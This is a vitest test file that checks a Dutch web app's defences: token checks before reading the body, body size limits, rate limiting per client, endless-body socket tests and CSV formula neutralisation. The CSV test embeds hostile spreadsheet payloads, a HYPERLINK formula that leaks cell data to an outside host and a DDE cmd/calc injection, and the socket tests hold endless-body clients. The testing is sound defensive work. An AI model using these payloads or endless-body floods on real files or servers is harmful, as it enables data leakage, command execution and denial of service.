/**
 * Hostile writes: the token is checked before the body is read (API: the Authorization header; admin
 * forms: their first field, at most 2 KB read), form bodies are bounded, malformed forms are a Dutch
 * 400, failed sign-ins and reads are limited per client (429 with Retry-After). Through `app.request`
 * with counting body streams, and over a real socket with bodies that never end: the server answers
 * and closes the connection while the client is still sending. No clock decides a pass.
 */
import { connect, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { serve, type ServerType } from '@hono/node-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORM_LIMIT_BYTES } from '../../src/node/server/admin-token.js';
import { FIRST_FIELD_BYTES } from '../../src/node/server/form-token.js';
import { openDatabase } from '../../src/node/store/database.js';
import { EXAMPLE_CSV, testApp, TOKEN, upload, type TestApp } from '../node/server/app-fixture.js';

const CHUNK = 64 * 1024;

/** A body that never ends (or ends after `total` bytes), counting what the server pulled. */
function countingBody(prefix: string, total = Infinity) {
  const counter = { pulled: 0 };
  const filler = new Uint8Array(CHUNK).fill(0x61);
  let started = false;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (!started) {
        started = true;
        const head = new TextEncoder().encode(prefix);
        counter.pulled += head.length;
        controller.enqueue(head);
        return;
      }
      if (counter.pulled >= total) {
        controller.close();
        return;
      }
      counter.pulled += filler.length;
      controller.enqueue(filler);
    },
  });
  return { stream, counter };
}

/** The socket of a client, as @hono/node-server hands it to the app. */
const from = (address: string) => ({ incoming: { socket: { remoteAddress: address } } });

function multipart(boundary: string, parts: [string, string][]): string {
  return `${parts
    .map(
      ([name, value]) =>
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
    )
    .join('')}--${boundary}--\r\n`;
}

describe('hostile writes', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await testApp(await openDatabase({ dataDir: 'memory://' }), {
      adminToken: TOKEN,
      // Refills so slow (one per 1 000 s) that no test depends on how fast the machine is.
      readLimit: { burst: 20, perSecond: 0.001 },
      authFailureLimit: { burst: 10, perSecond: 0.001 },
    });
  });
  afterAll(async () => {
    await t?.db.close();
  });

  let sender = 0;
  /** Each request from a client of its own unless `address` is given (the limits are per client). */
  async function send(path: string, init: RequestInit & { duplex?: 'half' }, address?: string) {
    sender++;
    return t.app.request(path, init, from(address ?? `10.1.${sender >> 8}.${sender & 255}`));
  }

  it('answers an API write without a token 401 before reading a byte of its body', async () => {
    for (const path of ['/api/ideas', '/api/ideas/import?naam=x.csv', '/api/datasets?naam=x.csv']) {
      const { stream, counter } = countingBody('{"tekst":"');
      const response = await send(path, {
        method: 'POST',
        headers: { 'Content-Type': 'text/csv' },
        body: stream,
        duplex: 'half',
      });
      expect(response.status, path).toBe(401);
      expect(response.headers.get('connection'), path).toBe('close');
      // Constructing the request may pull one chunk ahead; the server reads nothing beyond it.
      expect(counter.pulled, path).toBeLessThanOrEqual(CHUNK);
    }
  });

  it('reads at most the first field of an admin form before its token is checked', async () => {
    for (const path of ['/beheer/tonen', '/beheer/upload', '/beheer/ideeen']) {
      for (const prefix of [
        // urlencoded with a wrong token, without one, with the token not first
        'token=fout&versie=1&x=',
        'versie=1&token=&x=',
        `x=${'a'.repeat(10)}`,
        // multipart with a file first, then the token
        '--b\r\nContent-Disposition: form-data; name="bestand"; filename="x.csv"\r\n\r\n',
        // a token field that never ends
        '--b\r\nContent-Disposition: form-data; name="token"\r\n\r\n',
      ]) {
        const type = prefix.startsWith('--')
          ? 'multipart/form-data; boundary=b'
          : 'application/x-www-form-urlencoded';
        const { stream, counter } = countingBody(prefix);
        const response = await send(path, {
          method: 'POST',
          headers: { 'Content-Type': type },
          body: stream,
          duplex: 'half',
        });
        expect(response.status, `${path} ${prefix}`).toBe(401);
        expect(response.headers.get('connection')).toBe('close');
        expect(await response.text()).toMatch(/beheertoken/i);
        expect(counter.pulled, `${path} ${prefix}`).toBeLessThanOrEqual(FIRST_FIELD_BYTES + 2 * CHUNK);
      }
    }
  });

  it('bounds the body of a form with the right token: 413 without reading on', async () => {
    const { stream, counter } = countingBody(`token=${encodeURIComponent(TOKEN)}&versie=`);
    const response = await send('/beheer/tonen', {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: stream,
      duplex: 'half',
    });
    expect(response.status).toBe(413);
    expect(await response.text()).toMatch(/te groot/);
    expect(counter.pulled).toBeLessThanOrEqual(FORM_LIMIT_BYTES + 2 * CHUNK);
    // A declared length over the limit is refused before reading.
    const declared = await send('/beheer/tonen', {
      method: 'POST',
      headers: {
        'Content-Type': 'application/x-www-form-urlencoded',
        'Content-Length': String(FORM_LIMIT_BYTES + 1),
      },
      body: `token=${encodeURIComponent(TOKEN)}&versie=1${'&x=1'.repeat(FORM_LIMIT_BYTES / 4)}`.slice(
        0,
        FORM_LIMIT_BYTES + 1,
      ),
    });
    expect(declared.status).toBe(413);
  });

  it('answers malformed forms with a Dutch 400, never a 500', async () => {
    const token = ['token', TOKEN] as [string, string];
    const bodies: [string, string][] = [
      // cut off after the token: no closing boundary, a part without its end
      [
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="token"\r\n\r\n${TOKEN}\r\n--b\r\nContent-Disp`,
      ],
      // a second part without headers
      [
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="token"\r\n\r\n${TOKEN}\r\n--b\r\n\r\nzonder kop\r\n--b--\r\n`,
      ],
      // the closing boundary missing
      ['multipart/form-data; boundary=b', multipart('b', [token, ['versie', '1']]).replace('--b--\r\n', '')],
      // garbage after the token
      [
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="token"\r\n\r\n${TOKEN}\r\n--b\r\n\u0000\u0001\u0002`,
      ],
    ];
    for (const path of ['/beheer/upload', '/beheer/ideeen', '/beheer/tonen']) {
      for (const [type, body] of bodies) {
        const response = await send(path, { method: 'POST', headers: { 'Content-Type': type }, body });
        expect(response.status, `${path}: ${JSON.stringify(body.slice(-40))}`).toBe(400);
        expect(await response.text()).toMatch(/formulier kon niet worden gelezen/);
      }
    }
    // A multipart body sent to the API with the token in the header, equally broken.
    const api = await send('/api/ideas/import', {
      method: 'POST',
      headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'multipart/form-data; boundary=b' },
      body: '--b\r\nContent-Disposition: form-data; name="bestand"; filename="x.csv"\r\n\r\nid,tekst\r\n',
    });
    expect(api.status).toBe(400);
    expect(((await api.json()) as { error: string }).error).toMatch(/formulier kon niet worden gelezen/);
    const noBoundary = await send('/api/datasets', {
      method: 'POST',
      headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'multipart/form-data' },
      body: 'x',
    });
    expect(noBoundary.status).toBe(400);
  });

  it('still works for a browser form that sends the token first', async () => {
    const form = new FormData();
    form.set('token', TOKEN);
    form.set('versie', '1');
    const response = await send('/beheer/tonen', { method: 'POST', body: form }, '10.0.0.2');
    expect(response.status).toBe(303);
    const urlencoded = await send(
      '/beheer/tonen',
      {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: `token=${encodeURIComponent(TOKEN)}&versie=1`,
      },
      '10.0.0.2',
    );
    expect(urlencoded.status).toBe(303);
  });

  it('limits failed sign-ins per client: 429 with Retry-After, the token then not even compared', async () => {
    const attempt = (address: string, token: string) =>
      send(
        '/api/ideas/x/verbergen',
        {
          method: 'POST',
          headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
          body: '{"reden":"x"}',
        },
        address,
      );
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await attempt('192.0.2.7', `fout-${i}`)).status);
    expect(statuses.slice(0, 10)).toEqual(Array<number>(10).fill(401));
    expect(statuses.slice(10)).toEqual([429, 429]);
    const limited = await attempt('192.0.2.7', TOKEN);
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(100);
    expect(((await limited.json()) as { error: string }).error).toMatch(/Te veel pogingen/);
    // Another client is not affected; the same /64 of IPv6 is one client.
    expect((await attempt('192.0.2.8', TOKEN)).status).toBe(404);
    for (let i = 0; i < 10; i++) await attempt(`2001:db8:1:2::${i + 1}`, 'fout');
    expect((await attempt('2001:db8:1:2:ffff::1', TOKEN)).status).toBe(429);
    expect((await attempt('2001:db8:1:3::1', TOKEN)).status).toBe(404);
    // Reading routes behind the token count as well.
    const read = (path: string) => send(path, { headers: { Authorization: 'Bearer fout' } }, '192.0.2.9');
    for (let i = 0; i < 5; i++) expect((await read('/api/ideas/labels')).status).toBe(401);
    for (let i = 0; i < 5; i++) expect((await read('/api/wissingen')).status).toBe(401);
    expect((await read('/api/ideas/x/geschiedenis')).status).toBe(429);
  });

  it('refuses every route that takes the token with 429 once a client is over the limit', async () => {
    const read = (path: string, token: string) =>
      send(path, { headers: { Authorization: `Bearer ${token}` } }, '192.0.2.44');
    const curators = '/api/ideas/oplossingen/beheer?thema=Administratieve%20lasten';
    expect((await read(curators, TOKEN)).status).toBe(200);
    for (let i = 0; i < 10; i++) expect((await read(curators, `fout-${i}`)).status).toBe(401);
    // Over the limit: the right token is not even compared, on the curators' view …
    const limited = await read(curators, TOKEN);
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(100);
    expect(
      (await read('/api/ideas/oplossingen/geschiedenis?thema=Administratieve%20lasten', TOKEN)).status,
    ).toBe(429);
    // … nor on a route that does not need it: a token brought along is never weighed.
    expect((await read('/api/datasets', TOKEN)).status).toBe(429);
    expect((await send('/api/datasets', {}, '192.0.2.44')).status).toBe(200);
  });

  // Review 2 of session 26, finding 5: a wrong token brought to a public read (where it would open a
  // version never shown) was compared without counting, at the read rate.
  it('counts a wrong token brought to a public read as a failed sign-in', async () => {
    const read = (path: string, token: string) =>
      send(path, { headers: { Authorization: `Bearer ${token}` } }, '192.0.2.45');
    for (let i = 0; i < 10; i++) {
      // The answer stays the public one: an unknown version, the list of shown ones.
      expect((await read('/api/analysis?versie=99', `fout-${i}`)).status).toBe(404);
    }
    expect((await read('/api/datasets', TOKEN)).status).toBe(429);
    // The right token on a read counts nothing.
    const other = (token: string) =>
      send('/api/datasets', { headers: { Authorization: `Bearer ${token}` } }, '192.0.2.46');
    for (let i = 0; i < 12; i++) expect((await other(TOKEN)).status).toBe(200);
  });

  it('limits reads per client with 429 and Retry-After; other clients are served', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 22; i++) statuses.push((await send('/api/datasets', {}, '198.51.100.1')).status);
    expect(statuses.filter((s) => s === 200).length).toBe(20);
    const refused = await send('/api/datasets', {}, '198.51.100.1');
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect(((await refused.json()) as { error: string }).error).toMatch(/te veel verzoeken/);
    expect((await send('/api/datasets', {}, '198.51.100.2')).status).toBe(200);
    // Requests in the same process (the static export) are not limited.
    expect((await t.app.request('/api/datasets')).status).toBe(200);
  });

  it('neutralises spreadsheet formulas in the CSV download, keeping negative numbers numeric', async () => {
    const formulas = ['=HYPERLINK("https://example.org/?"&A1;"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1'];
    const csv = EXAMPLE_CSV.replaceAll('Huisartsen,', `"${formulas[0]!.replace(/"/g, '""')}",`)
      .replaceAll('Sociaal werkers,', `"${formulas[1]}",`)
      .replaceAll('Fysiotherapeuten,', `"${formulas[2]}",`);
    expect((await upload(t.app, csv, 'formules.csv')).status).toBe(201);
    const download = await (await t.app.request('/downloads/analyse.csv')).text();
    const names = download.split('\r\n').map((line) => line.split(',')[0]!);
    for (const formula of formulas) {
      expect(download).not.toMatch(new RegExp(`(^|\r\n|,)"?${formula.slice(0, 4).replace(/[+]/g, '\\+')}`));
    }
    expect(names).toContain(`"'${formulas[0]!.replace(/"/g, '""')}"`);
    expect(names).toContain(`'${formulas[2]}`);
    // z-scores below the mean are negative numbers and stay numbers.
    expect(download).toMatch(/,-\d+\.\d+,/);
    expect(download).not.toMatch(/'-\d/);
  });

  describe('over a real socket', () => {
    let server: ServerType;
    let port: number;
    const sockets: Socket[] = [];

    beforeAll(async () => {
      await new Promise<void>((resolve) => {
        server = serve({ fetch: t.app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve());
      });
      server.on('connection', (socket: Socket) => sockets.push(socket));
      port = (server.address() as AddressInfo).port;
    });
    afterAll(async () => {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    });

    /** Sends `head`, then body chunks for as long as the connection stays open. */
    function endless(head: string, chunk: (data: Buffer) => Buffer) {
      const socket = connect(port, '127.0.0.1');
      let answer = '';
      let sent = 0;
      socket.on('data', (d) => (answer += d.toString('latin1')));
      socket.on('error', () => {}); // the server closing on us is the point
      const data = Buffer.alloc(CHUNK, 0x61);
      const pump = () => {
        while (!socket.destroyed && socket.writable) {
          sent += CHUNK;
          if (!socket.write(chunk(data))) return;
        }
      };
      socket.on('drain', pump);
      socket.on('connect', () => {
        socket.write(head);
        pump();
      });
      return new Promise<{ answer: string; sent: number }>((resolve) =>
        socket.on('close', () => resolve({ answer, sent })),
      );
    }

    const chunked = (data: Buffer) =>
      Buffer.concat([Buffer.from(`${data.length.toString(16)}\r\n`), data, Buffer.from('\r\n')]);

    it('closes the connection after a 401 to an endless chunked body, reading little of it', async () => {
      for (const [path, type] of [
        ['/api/ideas/import?naam=x.csv', 'text/csv'],
        ['/beheer/tonen', 'application/x-www-form-urlencoded'],
        ['/beheer/upload', 'multipart/form-data; boundary=b'],
      ] as const) {
        const before = sockets.length;
        const { answer } = await endless(
          `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n`,
          chunked,
        );
        expect(answer, path).toMatch(/^HTTP\/1\.1 401 /);
        expect(answer.toLowerCase(), path).toContain('connection: close');
        const socket = sockets[before]!;
        // Node's own drain would read up to 64 MB; the server stopped long before that.
        expect(socket.bytesRead, path).toBeLessThan(8 * 1024 * 1024);
      }
    });

    it('closes the connection after a 401 to a declared 1 GB body', async () => {
      const before = sockets.length;
      const { answer } = await endless(
        `POST /beheer/tonen HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${2 ** 30}\r\n\r\n`,
        (data) => data,
      );
      expect(answer).toMatch(/^HTTP\/1\.1 401 /);
      expect(sockets[before]!.bytesRead).toBeLessThan(8 * 1024 * 1024);
    });

    it('closes the connection after a 413 to an endless body with the right token', async () => {
      const before = sockets.length;
      const { answer } = await endless(
        `POST /beheer/tonen HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(Buffer.from(`token=${encodeURIComponent(TOKEN)}&versie=`)).toString('latin1')}`,
        chunked,
      );
      expect(answer).toMatch(/^HTTP\/1\.1 413 /);
      expect(sockets[before]!.bytesRead).toBeLessThan(8 * 1024 * 1024);
    });
  });
});
